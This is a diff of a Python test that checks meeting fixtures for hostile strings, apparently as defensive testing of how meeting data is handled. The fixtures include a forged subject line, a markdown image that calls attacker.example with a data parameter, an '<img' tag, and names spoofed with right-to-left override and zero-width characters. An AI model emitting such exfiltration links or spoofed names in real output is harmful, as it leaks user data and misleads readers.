@@ -210,9 +210,12 @@ def test_hostile_strings_carry_each_attack() -> None:
     assert meetings[hostile.FORGED_SUBJECT_UUID].conference["subject"].startswith('Board meeting" · ID 960142387')
     assert "![status](https://attacker.example/p.png?d=" in meetings[hostile.MARKDOWN_UUID].conference["subject"]
     assert "<img " in meetings[hostile.MARKDOWN_UUID].conference["subject"]
-    names = {p["name"] for p in meetings[hostile.TAG_UUID].participants}
-    assert any("\u202e" in n for n in names)
-    assert any("\u200b" in n for n in names)
+    for meeting in (meetings[uuid] for uuid in HOSTILE_UUIDS):
+        for names in ({p["name"] for p in meeting.participants}, {r["displayName"] for r in meeting.attendance}):
+            assert any("\u202e" in n for n in names)
+            assert any("\u200b" in n for n in names)
+            assert hostile.PHONE_NAME in names
+        assert "\u202e" in meeting.conference["scheduserName"]
     people = meetings[hostile.MARKDOWN_UUID].participants
     assert hostile.EMAIL_ACCOUNT in {p.get("accountId") for p in people}
     dial_in = [p for p in people if p["name"] == hostile.PHONE_NAME]
